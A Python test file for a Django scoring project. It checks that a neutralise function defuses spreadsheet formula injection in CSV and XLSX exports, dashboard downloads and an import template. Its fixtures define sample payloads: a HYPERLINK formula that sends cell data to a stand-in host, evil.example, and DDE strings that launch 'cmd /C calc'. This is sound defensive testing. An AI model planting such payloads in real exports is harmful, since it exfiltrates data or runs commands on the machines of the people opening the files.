"""Free text that a spreadsheet would run as a formula (a unit named "=HYPERLINK(…)", a group
"+cmd|…", "@SUM…", "-…") leaves every export as text: the dashboards' downloads (.csv and
.xlsx), `export_scores`, `export_analysis` (analysis and targets) and the import template. One
function, tabular.export.neutralise, does it for all of them."""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from dashboards.downloads import table_response
from indices.analytics.runs import analysis_rebuild
from indices.models import RatingBand, RatingScheme, Score, Target
from indices.services.imports.workbook_templates import edition_template_xlsx
from tabular.export import neutralise
from tests.factories import ComponentFactory, EditionFactory, IndexFactory, UnitFactory
from units.models import Unit

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(reference_units):
    """An edition whose unit names and published groups are formulas, analysed, with a target."""
    index = IndexFactory(code="HARDE", name="Chỉ số xuất thử")
    scheme = RatingScheme.objects.create(index=index, method="published")
    RatingBand.objects.create(scheme=scheme, code="tot", name="Tốt", order=1)
    edition = EditionFactory(index=index, year=2021)
    evil = UnitFactory(code="99", name=LINK, kind=Unit.Kind.PROVINCE)
    units = [evil, Unit.objects.get(code="49"), Unit.objects.get(code="48")]
    for rank, (unit, group) in enumerate(zip(units, [CMD, SUM, MINUS], strict=True), start=1):
        Score.objects.create(
            unit=unit,
            edition=edition,
            component=None,
            state=Score.State.VALUE,
            value=Decimal(90 - rank),
            decimals=2,
            published_rank=rank,
            published_group=group,
            basis="published",
        )
    Target.objects.create(
        unit=evil, index=index, kind="score", target_value=Decimal(95), baseline_year=2020
    )
    analysis_rebuild(edition_ids=[edition.pk], trigger="admin")
    return edition


def _csv_cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row}


def _assert_neutralised(cells: set[str], *texts: str) -> None:
    for text in texts:
        assert text not in cells, f"{text!r} left raw"
        assert "'" + text in cells, f"{text!r} missing"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (LINK, "'" + LINK),
        (CMD, "'" + CMD),
        (SUM, "'" + SUM),
        (MINUS, "'" + MINUS),
        ("\tx", "'\tx"),
        ("＝1+1", "'＝1+1"),
        ("-3,5", "-3,5"),
        ("+84", "+84"),
        ("Quảng Nam", "Quảng Nam"),
        (Decimal("-3.5"), Decimal("-3.5")),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_export_scores_csv_neutralises_free_text(hostile):
    out = io.StringIO()
    call_command("export_scores", "--index", "HARDE", "--year", "2021", stdout=out)
    _assert_neutralised(_csv_cells(out.getvalue()), LINK, CMD, SUM, MINUS)


def test_export_scores_json_keeps_text_as_stored(hostile):
    """JSON is read by programs, never run by a spreadsheet: it keeps the data exact."""
    out = io.StringIO()
    call_command(
        "export_scores", "--index", "HARDE", "--year", "2021", "--format", "json", stdout=out
    )
    names = {row["unit_name"] for row in json.loads(out.getvalue())}
    assert LINK in names


def test_export_analysis_csv_neutralises_free_text(hostile):
    out = io.StringIO()
    call_command("export_analysis", "--index", "HARDE", "--year", "2021", stdout=out)
    _assert_neutralised(_csv_cells(out.getvalue()), LINK, CMD, SUM, MINUS)


def test_export_analysis_targets_csv_neutralises_free_text(hostile):
    out = io.StringIO()
    call_command("export_analysis", "--index", "HARDE", "--year", "2021", "--targets", stdout=out)
    _assert_neutralised(_csv_cells(out.getvalue()), LINK)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_dashboard_download_neutralises_free_text(client, official, hostile, fmt):
    client.force_login(official)
    response = client.get(reverse("dashboards:index", args=["HARDE"]), {"tai": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        cells = _csv_cells(response.content.decode())
    else:
        book = load_workbook(io.BytesIO(response.content))
        cells = {
            cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.value
        }
        assert all(
            cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row
        )
    _assert_neutralised(cells, LINK)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_response_neutralises_headers_and_values(fmt):
    columns = [("name", CMD), ("value", "Giá trị"), ("basis", "Cơ sở")]
    rows = [{"name": LINK, "value": Decimal("-3.5"), "basis": SUM}]
    response = table_response(columns=columns, rows=rows, filename="t", fmt=fmt)
    if fmt == "csv":
        cells = _csv_cells(response.content.decode())
    else:
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        cells = {str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None}
    _assert_neutralised(cells, CMD, LINK, SUM)
    assert "-3.5" in cells


def test_import_template_neutralises_unit_and_component_names(hostile):
    ComponentFactory(edition=hostile, code="1", name="=SUM(A1:A9)", parent=None)
    sheet = load_workbook(io.BytesIO(edition_template_xlsx(edition=hostile))).worksheets[0]
    values = {c.value for row in sheet.iter_rows() for c in row if c.value is not None}
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert {"'" + LINK, "'=SUM(A1:A9)"} <= values
